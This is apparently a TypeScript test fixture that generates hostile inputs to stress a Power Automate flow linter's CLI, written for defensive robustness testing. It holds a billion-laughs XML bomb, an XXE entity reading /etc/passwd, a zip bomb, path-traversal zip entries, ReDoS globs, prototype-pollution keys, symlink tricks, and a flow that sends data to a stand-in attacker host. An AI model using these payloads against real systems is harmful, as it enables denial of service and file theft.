import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { makeZip } from '../../helpers/make-zip';
import { compose, FLOW_NAME, flowJson, flowWithSecret, secretHttp, URL_SECRETS, type Actions } from './flows';

/** What one case asks of the CLI, once its files are written under `dir`. */
export interface CaseRun {
  /** Arguments after `dist/cli.js`; the case's folder is the working folder. */
  args: string[];
  /** Files outside the linted folder that no run may change (a symlink's target, ...). */
  untouchable?: string[];
}

export interface HostileCase {
  name: string;
  /** Writes the case's files into the empty folder `dir` and says how to run it. */
  write(dir: string): CaseRun;
  /** The run must say this (in any output) to show it reported the problem rather than ignore it. */
  mentions?: RegExp;
  /** Masked by another worker's part (URL-borne secrets); reported separately when it fails. */
  urlSecret?: boolean;
  /** Enough to check the run once: it writes, or it is slow, so every format is not needed. */
  oneFormat?: boolean;
  /** Needs a POSIX file system (FIFOs, /dev/zero). */
  posix?: boolean;
}

function put(dir: string, rel: string, content: string | Uint8Array): string {
  const file = path.join(dir, rel);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, content);
  return file;
}

/** The usual shape of a case: a folder `ws` holding a flow with a secret beside the hostile file. */
function workspace(dir: string, hostile: Record<string, string | Uint8Array>): CaseRun {
  put(dir, `ws/${FLOW_NAME}`, flowWithSecret());
  for (const [rel, content] of Object.entries(hostile)) put(dir, `ws/${rel}`, content);
  return { args: ['ws'] };
}

/** A repository whose base commit lists a flow twice and a path as both file and folder (git mktree allows it). */
function reviewWithDuplicates(dir: string): CaseRun {
  const run = workspace(dir, {});
  const git = (args: string[], input?: string): string => execFileSync('git', args, { cwd: dir, input, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 'h', GIT_AUTHOR_EMAIL: 'h@example.invalid', GIT_COMMITTER_NAME: 'h', GIT_COMMITTER_EMAIL: 'h@example.invalid' } }).trim();
  git(['init', '-q']);
  const blob = git(['hash-object', '-w', '--stdin'], flowWithSecret());
  const flows = git(['mktree'], `100644 blob ${blob}\t${path.basename(FLOW_NAME)}\n100644 blob ${blob}\t${path.basename(FLOW_NAME)}\n`);
  const ws = git(['mktree'], `040000 tree ${flows}\tWorkflows\n100644 blob ${blob}\tWorkflows\n100644 blob ${blob}\tx.json\n100644 blob ${blob}\tx.json\n`);
  const rootTree = git(['mktree'], `040000 tree ${ws}\tws\n`);
  const commit = git(['commit-tree', rootTree, '-m', 'hostile base']);
  return { args: ['review', '--base', commit, ...run.args] };
}

function config(dir: string, value: unknown): void {
  put(dir, 'ws/flowguard.json', typeof value === 'string' ? value : JSON.stringify(value, null, 2));
}

function chain(length: number): Actions {
  const actions: Actions = { Step_0: compose("@triggerBody()?['text']") };
  for (let i = 1; i < length; i++) actions[`Step_${i}`] = compose(`@outputs('Step_${i - 1}')`, { [`Step_${i - 1}`]: ['Succeeded'] });
  actions.Send = { ...secretHttp({ [`Step_${length - 1}`]: ['Succeeded'] }), inputs: { method: 'POST', uri: 'https://evil.example.net/x', body: `@outputs('Step_${length - 1}')` } };
  return actions;
}

function nestedScopes(depth: number): Actions {
  let inner: Actions = { Leaf: secretHttp() };
  for (let i = 0; i < depth; i++) inner = { [`Scope_${i}`]: { runAfter: {}, type: 'Scope', actions: inner } };
  return inner;
}

const NESTED_CALLS = 20_000;
const deepExpression = `@${'concat('.repeat(NESTED_CALLS)}'x'${')'.repeat(NESTED_CALLS)}`;

function manyActions(count: number): Actions {
  const actions: Actions = {};
  for (let i = 0; i < count; i++) actions[`A${i}`] = compose(`@outputs('Missing_${i}')`);
  return actions;
}

function nearMisses(count: number): Actions {
  const actions: Actions = {};
  const long = 'x'.repeat(2_000);
  for (let i = 0; i < count; i++) actions[`Get_item_${long}_${i}`] = compose(`@body('Get_item_${long}_${i}z')`);
  return actions;
}

const SOLUTION_XML = '<ImportExportXml><SolutionManifest><UniqueName>Hostile</UniqueName><Version>1.0.0.0</Version><Managed>0</Managed></SolutionManifest></ImportExportXml>';

function solution(dir: string, files: Record<string, string>): CaseRun {
  put(dir, 'sol/solution.xml', files['solution.xml'] ?? SOLUTION_XML);
  put(dir, 'sol/customizations.xml', files['customizations.xml'] ?? '<ImportExportXml><Workflows/></ImportExportXml>');
  put(dir, `sol/${FLOW_NAME}`, flowWithSecret());
  return { args: ['sol'] };
}

const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('')}]><ImportExportXml><SolutionManifest><UniqueName>&lol9;</UniqueName></SolutionManifest></ImportExportXml>`;
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><ImportExportXml><SolutionManifest><UniqueName>&xxe;</UniqueName></SolutionManifest></ImportExportXml>';

function endpointPolicy(rules: number, pattern: (i: number) => string): string {
  const endpointRules = Array.from({ length: rules }, (_, i) => ({ order: i + 1, behavior: 'Deny', endPoint: pattern(i) }));
  endpointRules.push({ order: rules + 1, behavior: 'Allow', endPoint: '*' });
  return JSON.stringify({
    policyDefinition: { name: 'p1', displayName: 'Hostile', defaultConnectorsClassification: 'General', connectorGroups: [], environmentType: 'AllEnvironments', environments: [] },
    connectorConfigurationsDefinition: { endpointConfigurations: [{ connectorId: '/providers/Microsoft.PowerApps/apis/Http', endpointRules }] },
  });
}

/**
 * Every family of hostile input the issue names. Cases are written at test time (no committed
 * blobs); each plants the secrets of flows.ts so that every run also checks masking.
 */
export const CASES: HostileCase[] = [
  { name: 'a data path through 1,500 actions', write: (d) => workspace(d, { 'Workflows/Chain-1A1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson(chain(1_500)) }), oneFormat: false },
  { name: '100,000 actions in one flow', write: (d) => workspace(d, { 'Workflows/Wide-2A1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': JSON.stringify({ properties: { definition: { triggers: {}, actions: manyActions(100_000) } } }) }), oneFormat: true },
  { name: 'scopes nested 120 deep', write: (d) => workspace(d, { 'Workflows/Deep-3A1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson(nestedScopes(120)) }) },
  { name: 'an expression nested 20,000 calls deep', write: (d) => workspace(d, { 'Workflows/Expr-4A1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson({ Deep: compose(deepExpression) }) }) },
  { name: 'a 5 MB expression string', write: (d) => workspace(d, { 'Workflows/Long-5A1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson({ Long: compose(`@{outputs('x')}${'@{body(\'y\')}'.repeat(400_000)}`) }) }), oneFormat: true },
  { name: '2,000 near-miss action names with long names', write: (d) => workspace(d, { 'Workflows/Near-6A1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson(nearMisses(2_000)) }), oneFormat: true },
  { name: 'JSON nested 100,000 deep', write: (d) => workspace(d, { 'Workflows/Nest-7A1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': `{"properties":{"definition":{"triggers":{},"actions":{"A":{"type":"Compose","inputs":${'['.repeat(100_000)}${']'.repeat(100_000)}}}}}}` }), mentions: /nested deeper/ },
  { name: 'JSON nested 250 deep (under the parse limit)', write: (d) => workspace(d, { 'Workflows/Nest-8A1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson({ Deep: compose(JSON.parse(`${'{"a":'.repeat(240)}1${'}'.repeat(240)}`)) }) }) },
  { name: 'a truncated flow', write: (d) => workspace(d, { 'Workflows/Cut-9A1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowWithSecret().slice(0, 300) }) },
  { name: 'UTF-16LE with a BOM, UTF-16 without, invalid UTF-8, NUL bytes', write: (d) => workspace(d, {
    'Workflows/U16-AA1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(flowWithSecret(), 'utf16le')]),
    'Workflows/U16n-BA1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': Buffer.from(flowWithSecret(), 'utf16le'),
    'Workflows/Bad-CA1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': Buffer.concat([Buffer.from(flowWithSecret().slice(0, 200)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(flowWithSecret().slice(200))]),
    'Workflows/Nul-DA1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowWithSecret().replace('"Compose"', '"Comp\u0000ose"').replace('svc', 'sv\u0000c'),
  }) },
  { name: '__proto__, constructor and duplicate keys', write: (d) => workspace(d, { 'Workflows/Proto-EA1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson({ ['__proto__']: secretHttp(), constructor: compose("@outputs('toString')"), hasOwnProperty: compose("@body('__proto__')") }).replace('"hasOwnProperty"', '"Call_partner": {"type": "Compose", "inputs": 1}, "hasOwnProperty"').replace('"connectionReferences": {}', '"connectionReferences": {"__proto__": {"api": {"name": "constructor"}}, "toString": {"api": {"name": "__proto__"}}}') }) },
  { name: 'a 10 MB zip bomb entry', write: (d) => workspace(d, { 'bomb.zip': makeZip({ 'solution.xml': SOLUTION_XML, [FLOW_NAME]: Buffer.alloc(10 * 1024 * 1024, 0x20) }) }), mentions: /zip bomb/ },
  { name: 'zip entries named ../, absolute, C:\\ and with backslashes', write: (d) => workspace(d, { 'tricks.zip': makeZip({ 'solution.xml': SOLUTION_XML, '../escape.json': flowWithSecret(), '/etc/abs.json': flowWithSecret(), 'C:\\Windows\\x.json': flowWithSecret(), 'Workflows\\Back-FA1E2C9A.json': flowWithSecret() }) }) },
  { name: 'a zip of 20,000 entries', write: (d) => workspace(d, { 'many.zip': makeZip(Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`f${i}.txt`, 'x']))) }), oneFormat: true },
  { name: 'a zip inside a zip inside a zip', write: (d) => workspace(d, { 'outer.zip': makeZip({ 'mid.zip': makeZip({ 'inner.zip': makeZip({ 'solution.xml': SOLUTION_XML, [FLOW_NAME]: flowWithSecret() }) }) }) }) },
  { name: 'a truncated zip', write: (d) => workspace(d, { 'cut.zip': makeZip({ 'solution.xml': SOLUTION_XML, [FLOW_NAME]: flowWithSecret() }).slice(0, 120) }) },
  { name: 'billion laughs in solution.xml', write: (d) => solution(d, { 'solution.xml': BILLION_LAUGHS }) },
  { name: 'an external entity in solution.xml', write: (d) => solution(d, { 'solution.xml': XXE }) },
  { name: 'XML nested 100,000 deep', write: (d) => solution(d, { 'customizations.xml': `<ImportExportXml>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</ImportExportXml>` }) },
  { name: 'a 100,000-character ignore glob', write: (d) => { config(d, { ignore: ['*'.repeat(100_000)] }); return workspace(d, {}); }, mentions: /flowguard\.json:\d+/ },
  { name: 'a ReDoS-shaped ignore glob', write: (d) => { config(d, { ignore: [`${'*a'.repeat(40)}*b`, `**/${'a*'.repeat(40)}c/**`] }); return workspace(d, { [`${'a'.repeat(200)}.json`]: flowWithSecret(), [`${'a/'.repeat(60)}x.json`]: '{}' }); } },
  { name: '5,000 ignore globs', write: (d) => { config(d, { ignore: Array.from({ length: 5_000 }, (_, i) => `${'*a'.repeat(10)}${i}`) }); return workspace(d, {}); }, mentions: /flowguard\.json:\d+/ },
  { name: 'a ReDoS-shaped exceptions glob', write: (d) => { config(d, { exceptions: [{ rule: '*', file: `${'*a'.repeat(40)}*b`, reason: 'hostile' }] }); return workspace(d, { [`Workflows/${'a'.repeat(200)}.json`]: flowWithSecret() }); } },
  { name: 'a 100,000-character policies glob', write: (d) => { config(d, { policies: [`${'*'.repeat(100_000)}.json`] }); return workspace(d, {}); }, mentions: /flowguard\.json:\d+/ },
  { name: 'a policy with 100,000 pathological endpoint rules', mentions: /at most 10000 per connector/, write: (d) => { put(d, 'ws/policy.json', endpointPolicy(100_000, () => `${'*a'.repeat(30)}*b`)); config(d, { policies: ['policy.json'] }); return workspace(d, { 'Workflows/Url-0B1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson({ Get: { runAfter: {}, type: 'Http', inputs: { method: 'GET', uri: `https://${'a'.repeat(1_000)}.example.com/` } } }) }); }, oneFormat: true },
  { name: 'a policy endpoint pattern of 100,000 stars', mentions: /at most 2048 characters/, write: (d) => { put(d, 'ws/policy.json', endpointPolicy(3, () => `${'*a'.repeat(50_000)}b`)); config(d, { policies: ['policy.json'] }); return workspace(d, { 'Workflows/Url-1B1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson({ Get: { runAfter: {}, type: 'Http', inputs: { method: 'GET', uri: `https://${'a'.repeat(5_000)}.example.com/` } } }) }); } },
  { name: 'a policy nested 100,000 deep', write: (d) => { put(d, 'ws/policy.json', `{"policyDefinition":${'['.repeat(100_000)}${']'.repeat(100_000)}}`); config(d, { policies: ['policy.json'] }); return workspace(d, {}); }, mentions: /nested deeper/ },
  { name: 'flowguard.json nested 100,000 deep', write: (d) => { config(d, `{"ignore":${'['.repeat(100_000)}${']'.repeat(100_000)}}`); return workspace(d, {}); }, mentions: /nested deeper/ },
  { name: 'flowguard.json with __proto__ and duplicate keys', write: (d) => { config(d, '{"rules": {"__proto__": "off", "constructor": "off"}, "ignore": [], "ignore": ["x"], "__proto__": {"policies": ["/etc/passwd"]}}'); return workspace(d, {}); } },
  { name: '--config /dev/zero', write: (d) => ({ ...workspace(d, {}), args: ['ws', '--config', '/dev/zero'] }), posix: true, mentions: /dev\/zero/ },
  { name: 'a policies entry naming /dev/zero', write: (d) => { config(d, { policies: ['/dev/zero'] }); return workspace(d, {}); }, posix: true, mentions: /dev\/zero/ },
  { name: '--policy naming a FIFO', write: (d) => { const run = workspace(d, {}); execFileSync('mkfifo', [path.join(d, 'fifo.json')]); return { ...run, args: ['ws', '--policy', 'fifo.json'] }; }, posix: true, mentions: /fifo\.json/ },
  { name: 'a FIFO and a device link among the flows', write: (d) => { const run = workspace(d, {}); execFileSync('mkfifo', [path.join(d, 'ws/Workflows/Fifo-2B1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json')]); symlinkSync('/dev/zero', path.join(d, 'ws/Workflows/Zero-3B1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json')); return run; }, posix: true },
  { name: 'a FIFO named on the command line', write: (d) => { const run = workspace(d, {}); execFileSync('mkfifo', [path.join(d, 'named.json')]); return { ...run, args: ['ws', 'named.json', '/dev/zero'] }; }, posix: true, mentions: /named\.json/ },
  { name: 'symlink loops in the workspace', write: (d) => { const run = workspace(d, {}); symlinkSync('.', path.join(d, 'ws/loop')); symlinkSync('../ws', path.join(d, 'ws/Workflows/up')); symlinkSync('a-link', path.join(d, 'ws/b-link')); symlinkSync('b-link', path.join(d, 'ws/a-link')); return run; }, posix: true },
  { name: '--fix on a flow symlinked from outside the folder', write: (d) => {
    const outside = put(d, `outside/${FLOW_NAME}`, flowWithSecret());
    mkdirSync(path.join(d, 'ws/Workflows'), { recursive: true });
    symlinkSync(outside, path.join(d, `ws/${FLOW_NAME}`));
    symlinkSync(path.join(d, 'outside'), path.join(d, 'ws/linked-folder'));
    return { args: ['ws', `ws/${FLOW_NAME}`, '--fix'], untouchable: [outside] };
  }, posix: true, oneFormat: true, mentions: /symlink|symbolic link/i },
  { name: '--output naming a folder', write: (d) => ({ ...workspace(d, {}), args: ['ws', '--output', 'ws'] }), oneFormat: true, mentions: /--output/ },
  { name: '--output naming /dev/full', write: (d) => ({ ...workspace(d, {}), args: ['ws', '--output', '/dev/full'] }), posix: true, oneFormat: true, mentions: /--output/ },
  { name: 'review against a base that lists paths twice', write: reviewWithDuplicates, oneFormat: true, posix: true },
  { name: 'URL-borne secrets (sig=, code=, user:pass@)', urlSecret: true, write: (d) => workspace(d, { 'Workflows/Urls-4B1E2C9A-9B2D-EE11-9CBE-0022480A1F31.json': flowJson({
    Sig: { runAfter: {}, type: 'Http', inputs: { method: 'POST', uri: `https://prod-01.westus.logic.azure.com:443/workflows/1/triggers/manual/paths/invoke?api-version=2016-06-01&sp=%2Ftriggers&sv=1.0&sig=${URL_SECRETS.sig}` } },
    Code: { runAfter: {}, type: 'Http', inputs: { method: 'GET', uri: `https://fn.azurewebsites.net/api/x?code=${URL_SECRETS.code}` } },
    Userinfo: { runAfter: {}, type: 'Http', inputs: { method: 'GET', uri: `https://svc:${URL_SECRETS.userinfo}@files.example.net/x` } },
  }) }) },
];
